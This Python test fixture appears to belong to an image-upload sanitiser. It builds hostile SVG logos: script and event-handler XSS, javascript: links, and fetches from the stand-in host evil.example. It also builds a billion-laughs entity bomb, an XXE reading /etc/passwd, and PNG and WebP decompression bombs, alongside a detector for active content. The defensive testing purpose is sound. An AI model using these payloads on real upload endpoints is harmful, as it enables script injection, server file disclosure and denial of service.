"""Logos that somebody could upload to do harm, and an eye of our own that sees what is in them.

The eye shares nothing with helpline/face/pictures: it is what proves that a test would notice.
"""

import io
import re
import zlib
from xml.etree import ElementTree

from PIL import Image, PngImagePlugin

NAMES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def drawing(inner: str, before: str = "") -> bytes:
    """Return an SVG that shows a square, with something more in it."""
    return f'{before}<svg {NAMES} viewBox="0 0 9 9">{inner}<rect width="3" height="3"/></svg>'.encode()


ATTACKS = {
    "script": drawing("<script>alert(1)</script>"),
    "script elsewhere": drawing('<script href="https://evil.example/a.js"/>'),
    "script in capitals": drawing("<SCRIPT>alert(1)</SCRIPT>"),
    "script of a page": drawing('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
    "script in CDATA": drawing("<style><![CDATA[a{}]]></style><script><![CDATA[alert(1)]]></script>"),
    "onload": drawing('<g onload="alert(1)"/>'),
    "onload of the whole": drawing("").replace(b"<svg ", b'<svg onload="alert(1)" '),
    "onbegin": drawing('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
    "foreignObject": drawing('<foreignObject><b xmlns="http://www.w3.org/1999/xhtml">x</b></foreignObject>'),
    "frame": drawing('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>'),
    "javascript: link": drawing('<a href="javascript:alert(1)"><text>x</text></a>'),
    "javascript: with a break": drawing('<a xlink:href="java&#10;script:alert(1)"><text>x</text></a>'),
    "set onto href": drawing('<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'),
    "use elsewhere": drawing('<use href="https://evil.example/x.svg#a"/>'),
    "use elsewhere, old": drawing('<use xlink:href="//evil.example/x.svg#a"/>'),
    "image elsewhere": drawing('<image href="https://evil.example/p.png" width="1" height="1"/>'),
    "image of a page": drawing('<image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
    "image of a drawing": drawing('<image href="data:image/svg+xml;base64,PHN2Zz4="/>'),
    "@import": drawing('<style>@import "https://evil.example/a.css";</style>'),
    "@import url": drawing("<style>@import url(https://evil.example/a.css);</style>"),
    "url in a style": drawing('<rect style="fill:url(https://evil.example/x)" width="1" height="1"/>'),
    "url in a sheet": drawing("<style>rect{fill:url( '//evil.example/x' )}</style>"),
    "url in an attribute": drawing('<rect fill="url(https://evil.example/x#a)" width="1" height="1"/>'),
    "url spelled otherwise": drawing("<style>rect{fill:\\75 rl(https://evil.example/x)}</style>"),
    "font elsewhere": drawing("<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>"),
    "another base": drawing('<g xml:base="https://evil.example/"><use href="a.svg#x"/></g>'),
    "style sheet elsewhere": drawing("", '<?xml-stylesheet href="https://evil.example/a.css"?>'),
}
# Ten times ten times …: the eye would have to expand it, so it only looks for the definitions.
BOMB = (
    "<!DOCTYPE svg ["
    + '<!ENTITY a0 "hahahaha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
OVERGROWN = {
    "billion laughs": drawing("<text>&a9;</text>", BOMB),
    "a file of the server": drawing(
        "<text>&a;</text>", '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    ),
    "a parameter": drawing("", '<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>'),
    "used again and again": drawing(
        '<g id="u0"><path d="M0 0"/></g>'
        + "".join(f'<g id="u{n}">' + f'<use href="#u{n - 1}"/>' * 10 + "</g>" for n in range(1, 9))
    ),
    "used by itself": drawing('<g id="a"><use href="#a"/></g>'),
    "used very often": drawing('<g id="a">' + "<path/>" * 500 + "</g>" + '<use href="#a"/>' * 500),
    "very deep": drawing("<g>" * 3000 + "</g>" * 3000),
    "very many": drawing("<path/>" * 8000),
}


def what_acts(content: bytes) -> list[str]:
    """Return everything in a drawing that runs, moves, or asks for something."""
    found = re.findall(rb"<\?xml-stylesheet|<!ENTITY", content)
    said = [each.decode() for each in found]
    if b"<!ENTITY" in content:
        return said
    for element in ElementTree.fromstring(content).iter():
        name = element.tag.rpartition("}")[2].lower() if isinstance(element.tag, str) else "?"
        if name in {"script", "foreignobject", "iframe", "set", "animate"}:
            said.append(name)
        for attribute, value in element.attrib.items():
            local = attribute.rpartition("}")[2].lower()
            if local.startswith("on") or "script:" in re.sub(r"\s", "", value):
                said.append(f"{local}={value}")
            if local in {"href", "src", "base"} and not value.startswith("#"):
                said.append(f"{local}={value}")
            said += [f"{local}: {url}" for url in _asked_for(value)]
        if name == "style":
            said += [f"style: {url}" for url in _asked_for(element.text or "")]
    return said


def _asked_for(text: str) -> list[str]:
    plain = re.sub(r"\\75 ?", "u", text)
    return [
        each for each in re.findall(r"url\(\s*['\"]?([^)]*)", plain) if not each.startswith("#")
    ] + re.findall(r"@import", plain)


def picture(
    kind: str = "PNG", size: tuple[int, int] = (300, 100), mode: str = "RGB", **more: object
) -> bytes:
    """Return a picture of one colour."""
    made = io.BytesIO()
    Image.new(mode, size, "teal" if mode in {"RGB", "RGBA"} else 3).save(made, kind, **more)
    return made.getvalue()


def told_of(kind: str) -> bytes:
    """Return a picture that says where it was taken, and by whom."""
    exif = Image.Exif()
    exif[0x010E] = "planted-place"
    exif[0x0112] = 6
    if kind == "PNG":
        info = PngImagePlugin.PngInfo()
        info.add_text("Author", "planted-person")
        info.add_itxt("XML:com.adobe.xmp", "planted-xmp", zip=True)
        return picture("PNG", pnginfo=info, exif=exif)
    return picture(kind, exif=exif)


def png_bomb(width: int, height: int) -> bytes:
    """Return a PNG of a few kilobytes whose head claims this size, with rows that are all the same."""
    made = bytearray(picture("PNG", (16, 16)))
    head = b"IHDR" + width.to_bytes(4, "big") + height.to_bytes(4, "big") + made[24:29]
    made[12:33] = head + zlib.crc32(head).to_bytes(4, "big")
    return bytes(made)


def text_bomb() -> bytes:
    """Return a PNG with a text that is small in the file and 200 MB in memory."""
    packed = zlib.compress(b"a" * 200_000_000, 9)
    body = b"zTXt" + b"Comment\x00\x00" + packed
    chunk = (len(body) - 4).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")
    made = picture("PNG")
    return made[:33] + chunk + made[33:]


def webp_bomb(side: int = 16_384) -> bytes:
    """Return a WebP file whose head claims a canvas of this size, and that has one small picture."""
    small = picture("WEBP", (16, 16), lossless=True)[12:]
    less = (side - 1).to_bytes(3, "little")
    head = b"VP8X" + (10).to_bytes(4, "little") + b"\x00\x00\x00\x00" + less + less
    body = b"WEBP" + head + small
    return b"RIFF" + len(body).to_bytes(4, "little") + body
